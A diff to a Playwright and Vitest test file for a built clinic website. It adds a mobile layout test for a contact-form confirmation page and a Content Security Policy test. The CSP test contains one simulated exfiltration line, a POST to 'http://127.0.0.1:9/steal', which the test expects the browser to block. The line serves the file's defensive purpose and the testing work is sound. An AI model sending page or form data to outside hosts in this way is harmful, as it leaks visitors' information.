@@ -1,8 +1,8 @@
 import { existsSync } from 'node:fs';
 import { join } from 'node:path';
-import type { Browser } from 'playwright-core';
+import type { Browser, Locator } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { launchBrowser, collectErrors, DESKTOP } from '../helpers/browser.js';
+import { launchBrowser, collectErrors, DESKTOP, PHONE } from '../helpers/browser.js';
 import { runCli, tempDir } from '../helpers/cli.js';
 import { serveStatic } from '../helpers/static-server.js';
 
@@ -34,6 +34,7 @@ describe('a built site in Chromium', () => {
     ['/contact/', 'Send Us a Message'],
     ['/privacy/', 'Your HIPAA Rights'],
     ['/terms/', 'Governing Law'],
+    ['/contact/sent/', 'We will contact you within 24 hours.'],
   ];
 
   it.each(pages)('%s shows its content, styled, with no console errors', async (path, expected) => {
@@ -80,6 +81,46 @@ describe('a built site in Chromium', () => {
       if (width > 320) wide.push(`${path}: ${width}px`);
     }
     expect(wide).toEqual([]);
+    await page.close();
+  });
+
+  it('shows the confirmation at the top of a phone screen, under the fixed header, without scrolling', async () => {
+    const page = await browser.newPage({ viewport: PHONE });
+    const errors = collectErrors(page);
+    await page.goto(`${server.url}/contact/sent/`, { waitUntil: 'networkidle' });
+    const header = (await page.locator('header').boundingBox())!;
+    const box = async (locator: Locator) => (await locator.boundingBox())!;
+    const title = await box(page.getByRole('heading', { level: 1, name: 'Message sent successfully!' }));
+    const text = await box(page.getByText('We will contact you within 24 hours.'));
+    expect(title.y).toBeGreaterThanOrEqual(header.y + header.height);
+    expect(title.y).toBeLessThan(200);
+    for (const link of [page.getByRole('link', { name: 'Back to the home page' }), page.getByRole('main').getByRole('link', { name: /^Call / })]) {
+      const b = await box(link);
+      expect(b.y + b.height).toBeLessThanOrEqual(PHONE.height);
+    }
+    expect(text.y + text.height).toBeLessThanOrEqual(PHONE.height);
+    expect(await page.evaluate(() => window.scrollY)).toBe(0);
+    await page.getByRole('link', { name: 'Back to the home page' }).click();
+    await expect(page.getByText('Revitalize Your Health in Tampa').first().isVisible()).resolves.toBe(true);
+    expect(errors).toEqual([]);
+    await page.close();
+  });
+
+  it('lets a page reach only its own site and its contact endpoint (CSP)', async () => {
+    const page = await browser.newPage({ viewport: DESKTOP });
+    await page.goto(`${server.url}/contact/`, { waitUntil: 'networkidle' });
+    // The island took the form over under the page's policy: its script and styles were allowed.
+    await expect(page.getByRole('region', { name: /^Notifications/ }).count()).resolves.toBe(1);
+    await page.getByLabel('First Name').fill('Ann');
+    const violations = await page.evaluate(async () => {
+      const seen: string[] = [];
+      document.addEventListener('securitypolicyviolation', (e) => seen.push(`${e.effectiveDirective} ${e.blockedURI}`));
+      await fetch('http://127.0.0.1:9/steal', { method: 'POST', body: 'x' }).catch(() => undefined);
+      await fetch('/robots.txt');
+      await new Promise((r) => setTimeout(r, 100));
+      return seen;
+    });
+    expect(violations).toEqual(['connect-src http://127.0.0.1:9/steal']);
     await page.close();
   });
 
